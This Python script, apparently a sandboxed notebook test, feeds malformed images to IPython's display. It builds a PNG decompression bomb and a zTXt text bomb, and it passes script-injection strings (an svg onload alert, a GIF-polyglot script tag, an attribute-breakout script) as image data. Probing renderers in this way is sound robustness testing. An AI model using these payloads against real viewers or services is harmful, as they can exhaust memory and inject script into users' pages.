"""Shows pictures that unpack to gigabytes, and others that are none."""

raise SystemExit("Text for a sandbox: never run it.")

# %% own
import base64
import struct
import zlib

from IPython.display import display


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 6, 0, 0, 0)
bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(10**8))) + chunk(b"IEND", b"")
text = chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(10**8)))
small = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)) + text
for data in (bomb, small, b"<svg onload=alert(1)>", b"GIF89a<script>"):
    display({"image/png": base64.b64encode(data).decode()}, raw=True)
display({"image/png": '"><script>document.title = 1</script>'}, raw=True)
